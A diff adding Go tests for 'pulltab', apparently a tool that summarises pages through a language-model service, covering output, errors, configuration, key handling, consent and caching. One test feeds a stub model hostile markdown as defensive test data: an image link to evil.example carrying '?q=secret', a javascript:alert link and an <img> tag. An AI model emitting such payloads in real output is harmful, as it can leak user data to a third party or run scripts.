@@ -1,0 +1,345 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"pulltab/internal/chattest"
+)
+
+// home is a user's home of its own, with a model configured.
+func home(t *testing.T, config modelConfig) string {
+	t.Helper()
+	dir := t.TempDir()
+	t.Setenv("HOME", dir)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
+	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
+	if err := os.MkdirAll(configDir(), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := writeModelConfig(configDir(), config); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+// write makes a file in dir and returns its path.
+func write(t *testing.T, dir, name, text string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// pulltab runs a command in this process.
+func pulltab(stdin string, args ...string) (status int, out, messages string) {
+	var o, e bytes.Buffer
+	status = run(args, streams{strings.NewReader(stdin), &o, &e})
+	return status, o.String(), e.String()
+}
+
+func TestC1_C2_C14_JSONIsAnArrayOfAddressAndSummary(t *testing.T) {
+	service := chattest.Start(t)
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	marked := write(t, dir, "stored.md", "---\ntitle: Kiln\nurl: https://example.com/kiln?a=b&c=d\nsource: blocks\n---\n\n# Kiln\n\nThe kiln is <hot>. It cools.\n")
+	raw := write(t, dir, "page.html", bread)
+	status, out, messages := pulltab("Butter is made of milk. It melts.\n", "summarize", "--json", marked, raw, "-")
+	want := `[
+  {
+    "url": "https://example.com/kiln?a=b&c=d",
+    "summary": "# Kiln The kiln is <hot>."
+  },
+  {
+    "url": "` + raw + `",
+    "summary": "# Bread Bread is baked from flour, water and salt, and it wants patience above all, as every baker knows."
+  },
+  {
+    "url": "-",
+    "summary": "Butter is made of milk."
+  }
+]
+`
+	if status != exitDone || out != want {
+		t.Errorf("status %d\n%s%s", status, out, messages)
+	}
+	for _, r := range service.Asked() {
+		if strings.Contains(r.User, "<p>") || strings.Contains(r.User, "source: blocks") {
+			t.Errorf("the model got HTML or front matter: %q", r.User)
+		}
+	}
+}
+
+func TestC13_OneBadPageNeverSinksTheRest(t *testing.T) {
+	service := chattest.Start(t)
+	service.Fault = func(_ int, r chattest.Request) chattest.Fault {
+		if strings.Contains(r.User, "cursed") {
+			return chattest.Refuse(400, "I will not", "")
+		}
+		return nil
+	}
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	files := []string{
+		write(t, dir, "a.md", "Bread wants patience.\n"), filepath.Join(dir, "none.md"), write(t, dir, "empty.html", "<!doctype html><p> </p>"),
+		write(t, dir, "cursed.md", "---\nurl: https://example.com/cursed\n---\nA cursed page.\n"), write(t, dir, "b.md", "Butter melts.\n"),
+	}
+	status, out, messages := pulltab("", append([]string{"summarize", "--json", "--details"}, files...)...)
+	if status != exitFail {
+		t.Errorf("status %d", status)
+	}
+	var got []struct{ URL, Summary, Error string }
+	if err := json.Unmarshal([]byte(out), &got); err != nil || len(got) != 5 {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	for i, e := range got {
+		if wrong := i == 1 || i == 2 || i == 3; wrong != (e.Error != "") || wrong == (e.Summary != "") {
+			t.Errorf("page %d: %+v", i, e)
+		}
+	}
+	for _, line := range []string{"Skipped " + files[1] + ": read page: ", "Skipped " + files[2] + ": ", "Skipped https://example.com/cursed: " + "http://127.0.0.1:", "3 of 5 pages could not be summarised"} {
+		if !strings.Contains(messages, line) {
+			t.Errorf("%q is missing in\n%s", line, messages)
+		}
+	}
+}
+
+func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
+	service := chattest.Start(t)
+	service.Fault = func(int, chattest.Request) chattest.Fault { return chattest.Refuse(401, "no", "") }
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, Parallel: 1})
+	args := []string{"summarize"}
+	for i := range 40 {
+		args = append(args, write(t, dir, fmt.Sprintf("%d.md", i), fmt.Sprintf("Page %d.\n", i)))
+	}
+	status, _, messages := pulltab("", args...)
+	if n := len(service.Asked()); status != exitFail || n != 1 {
+		t.Errorf("status %d, %d calls", status, n)
+	}
+	if n := strings.Count(messages, "does not take the key"); n != 40 {
+		t.Errorf("%d pages are told of:\n%s", n, messages)
+	}
+}
+
+func TestC17_C21_TheDigestSaysHowItCameAbout(t *testing.T) {
+	service := chattest.Start(t)
+	service.Answer = func(chattest.Request) string {
+		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold**"
+	}
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 200})
+	long := write(t, dir, "long.md", "---\ntitle: \"[Long](https://evil.example)\"\nurl: https://example.com/long\n---\n"+strings.Repeat("A line about dough that goes on and on for a while.\n\n", 40))
+	status, out, messages := pulltab("", "summarize", long, write(t, dir, "a.md", "Bread.\n"))
+	if status != exitDone {
+		t.Fatal(messages)
+	}
+	head := regexp.MustCompile(`^---
+model: test-model-1
+provider: http://127\.0\.0\.1:\d+/v1
+temperature: 0\.2
+encoding: o200k_base
+prompt_map: map\.v1 [0-9a-f]{12}
+prompt_reduce: reduce\.v1 [0-9a-f]{12}
+prompt_single: single\.v1 [0-9a-f]{12}
+pages: 2
+skipped: 0
+chunks: \d+
+rounds: \d+
+calls: \d+
+cut: 0
+---
+`)
+	if !head.MatchString(out) {
+		t.Errorf("the head is\n%s", out)
+	}
+	// What the model and the page wrote does nothing.
+	body := head.ReplaceAllString(out, "")
+	for _, live := range []string{"](", "![", "\n# ", "<img"} {
+		if strings.Contains(strings.ReplaceAll(body, `\`+live[:1], ""), live) {
+			t.Errorf("%q is alive in\n%s", live, body)
+		}
+	}
+}
+
+func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
+	home(t, modelConfig{})
+	path := filepath.Join(configDir(), modelFile)
+	os.Remove(path)
+	status, out, messages := pulltab("Bread.", "summarize")
+	if status != exitFail || out != "" || !strings.Contains(messages, path) {
+		t.Fatalf("status %d\n%s", status, messages)
+	}
+	// What it shows can be used as it is.
+	examples := regexp.MustCompile(`(?s)\{\n.*?\n  \}`).FindAllString(messages, -1)
+	if len(examples) != 2 {
+		t.Fatalf("%d examples in\n%s", len(examples), messages)
+	}
+	for _, e := range examples {
+		write(t, configDir(), modelFile, e)
+		if c, err := readModelConfig(configDir()); err != nil || c.Model == "" || c.BaseURL == "" {
+			t.Errorf("%+v, %v", c, err)
+		}
+	}
+}
+
+func TestTheConfigurationIsReadStrictly(t *testing.T) {
+	home(t, modelConfig{})
+	for text, says := range map[string]string{
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","timeout":5}`:                         `unknown field "timeout"`,
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","parallel":-1}`:                       "negative",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","parallel":99}`:                       "over 32",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyEnv":"A","keyCommand":["b"]}`:     "not by both",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyEnv":"PULLTAB_TEST_NO_SUCH_KEY"}`: "is empty; set it",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","keyCommand":["false"]}`:              "printed no key",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","encoding":"klingon"}`:                "estimate",
+		`{"baseUrl":"http://127.0.0.1/v1","model":"m","contextTokens":1000}`:                "lower chunkTokens",
+		`{"baseUrl":"http://127.0.0.1/v1"}`:                                                 "no model is named",
+		`{"baseUrl":"127.0.0.1","model":"m"}`:                                               "is not an address",
+		`not JSON`:                                                                          "model.json: invalid character",
+	} {
+		write(t, configDir(), modelFile, text)
+		if status, out, messages := pulltab("Bread.", "summarize"); status != exitFail || out != "" || !strings.Contains(messages, says) {
+			t.Errorf("%s: status %d, %s", text, status, messages)
+		}
+	}
+	if err := os.Chmod(filepath.Join(configDir(), modelFile), 0o666); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "only you can write") {
+		t.Errorf("a file that anybody can write: %s", messages)
+	}
+}
+
+func TestC4_TheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
+	service := chattest.Start(t)
+	t.Setenv("PULLTAB_TEST_KEY", "sk-from-env")
+	for want, config := range map[string]modelConfig{
+		"sk-from-env":     {KeyEnv: "PULLTAB_TEST_KEY"},
+		"sk-from-command": {KeyCommand: []string{"echo", "sk-from-command"}},
+		"":                {},
+	} {
+		config.BaseURL, config.Model = service.BaseURL(), chattest.Model
+		home(t, config)
+		if status, out, messages := pulltab("Bread.", "summarize"); status != exitDone || want != "" && strings.Contains(out+messages, want) {
+			t.Errorf("status %d\n%s%s", status, out, messages)
+		}
+		asked := service.Asked()
+		if got := asked[len(asked)-1].Key; got != want {
+			t.Errorf("key %q, want %q", got, want)
+		}
+	}
+}
+
+func TestC22_ConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
+	home(t, modelConfig{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
+	status, _, messages := pulltab("Bread.", "summarize")
+	if status != exitFail || !strings.Contains(messages, "would leave this computer for https://models.invalid; if that is what you want, run: pulltab summarize --allow https://models.invalid\n") {
+		t.Fatalf("status %d: %s", status, messages)
+	}
+	if status, _, _ := pulltab("", "summarize", "--allow", "models.invalid"); status != exitUsage {
+		t.Errorf("status %d", status)
+	}
+	if status, out, messages := pulltab("", "summarize", "--allow", "https://MODELS.invalid/v1"); status != exitDone || out+messages != "" {
+		t.Errorf("status %d: %s%s", status, out, messages)
+	}
+	info, err := os.Stat(filepath.Join(configDir(), modelFile))
+	if err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("%v, %v", info, err)
+	}
+	// The next step is the key, which is asked for only now.
+	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "printed no key") {
+		t.Error(messages)
+	}
+}
+
+func TestC15_KilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
+	program := program(t) // while the tools' own caches are still where they were
+	service := chattest.Start(t)
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
+	args := []string{"summarize", "--json"}
+	for i := range 40 {
+		var text strings.Builder
+		for j := range 30 + i*4 {
+			fmt.Fprintf(&text, "Sentence %d of page %d is about dough. ", j, i)
+		}
+		args = append(args, write(t, dir, fmt.Sprintf("%d.md", i), text.String()+"\n"))
+	}
+	const held = 60 // from here on no call finishes; two are under way at a time
+	var dying atomic.Bool
+	dying.Store(true)
+	waiting := make(chan struct{}, 2)
+	service.Fault = func(n int, _ chattest.Request) chattest.Fault {
+		if n < held || !dying.Load() {
+			return nil
+		}
+		waiting <- struct{}{}
+		return chattest.Silence
+	}
+	victim := exec.Command(program, args...)
+	victim.Stdout, victim.Stderr = io.Discard, io.Discard
+	if err := victim.Start(); err != nil {
+		t.Fatal(err)
+	}
+	<-waiting
+	<-waiting
+	if err := victim.Process.Kill(); err != nil {
+		t.Fatal(err)
+	}
+	victim.Wait()
+	dying.Store(false)
+	first := service.Asked()
+	finished := map[string]bool{}
+	for _, r := range first[:held-1] {
+		finished[r.User] = true
+	}
+
+	out := output(t, exec.Command(program, args...), "")
+	var pages []struct{ URL, Summary string }
+	if err := json.Unmarshal(out, &pages); err != nil || len(pages) != 40 {
+		t.Fatalf("%d pages, %v", len(pages), err)
+	}
+	second := service.Asked()[len(first):]
+	for _, r := range second {
+		if finished[r.User] {
+			t.Errorf("asked again: %.60q", r.User)
+		}
+	}
+	if len(second) == 0 || len(finished) != held-1 {
+		t.Errorf("%d calls before, %d after", len(finished), len(second))
+	}
+	// Forgetting is one command.
+	if status, _, messages := pulltab("", "summarize", "--forget"); status != exitDone {
+		t.Error(messages)
+	}
+	if left, err := filepath.Glob(filepath.Join(dir, "cache", "pulltab", "*")); err != nil || len(left) != 0 {
+		t.Errorf("left: %v, %v", left, err)
+	}
+}
+
+func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
+	service := chattest.Start(t)
+	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
+	for range 2 {
+		if status, _, messages := pulltab("Bread wants patience.", "summarize"); status != exitDone {
+			t.Fatal(messages)
+		}
+	}
+	var files []string
+	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
+		files = append(files, filepath.Base(path))
+		return err
+	})
+	slices.Sort(files)
+	if len(service.Asked()) != 2 || slices.Contains(files, "cache") {
+		t.Errorf("%d calls, files %v", len(service.Asked()), files)
+	}
+}
